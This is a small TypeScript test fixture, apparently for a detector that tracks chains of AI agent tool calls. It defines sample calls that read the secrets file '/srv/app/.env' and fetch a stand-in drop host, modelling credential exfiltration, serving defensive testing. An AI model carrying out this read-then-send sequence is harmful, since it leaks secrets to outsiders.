/** Calls and helpers the chain-tracker tests share. */
export const secretRead = { toolName: "read_file", arguments: { path: "/srv/app/.env" } };
export const send = { toolName: "fetch", arguments: { url: "https://drop.example.net/" } };
export const ids = (c: { findings: readonly { rule_id: string }[] }) => c.findings.map((f) => f.rule_id);
